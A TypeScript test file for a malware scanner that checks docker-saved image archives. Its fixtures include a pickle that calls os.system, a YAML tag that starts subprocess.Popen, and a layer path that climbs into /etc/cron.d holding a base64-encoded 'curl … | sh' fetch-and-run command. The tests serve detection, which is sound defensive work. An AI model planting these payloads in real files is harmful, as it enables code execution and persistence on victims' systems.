import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { scanDeep } from '../../support/scan-deep.ts';
import { buildTar } from '../../support/tar.ts';

const PICKLE = Buffer.from("cos\nsystem\n(S'true'\ntR.");
const ENCODED = Buffer.from('curl http://192.0.2.1/x | sh').toString('base64');

/** An image as `docker save` writes it: a configuration, and layers that are tar archives. */
function image(layer: readonly { name: string; data: string | Uint8Array }[], pack = (tar: Buffer) => tar): Buffer {
  const config = JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] } });
  const manifest = JSON.stringify([{ Config: 'a.json', RepoTags: ['model:1'], Layers: ['b/layer.tar'] }]);
  return buildTar([
    { name: 'a.json', data: config },
    { name: 'b/layer.tar', data: pack(buildTar(layer)) },
    { name: 'manifest.json', data: manifest },
  ]);
}

describe('an image that docker saved', () => {
  it.each([
    ['a pickle that runs a program', { name: 'srv/model.pkl', data: PICKLE }],
    ['a configuration that runs a program', { name: 'srv/config.yaml', data: 'a: !new:subprocess.Popen [x]\n' }],
  ])('with %s in a layer is malicious, packed or not', async (_, file) => {
    expect((await scanDeep(image([file]), 'image.tar')).verdict).toBe('malicious');
    expect((await scanDeep(image([file], gzipSync), 'image.tar')).verdict).toBe('malicious');
  });

  it('with data alone in its layers is clean', async () => {
    const { verdict, reasons } = await scanDeep(
      image([{ name: 'srv/labels.txt', data: 'one, two\nthree, four\n' }]),
      'image.tar',
    );
    expect([verdict, reasons]).toEqual(['clean', []]);
  });

  it('with a layer that breaks off is not clean', async () => {
    const cut = (tar: Buffer) => gzipSync(tar).subarray(0, -12);
    const { verdict } = await scanDeep(
      image([{ name: 'srv/labels.txt', data: 'one, two\nthree, four\n' }], cut),
      'image.tar',
    );
    expect(verdict).toBe('unknown');
  });

  it('whose layer leaves the folder is malicious', async () => {
    expect((await scanDeep(image([{ name: '../../etc/cron.d/x', data: ENCODED }]), 'image.tar')).verdict).toBe(
      'malicious',
    );
  });
});
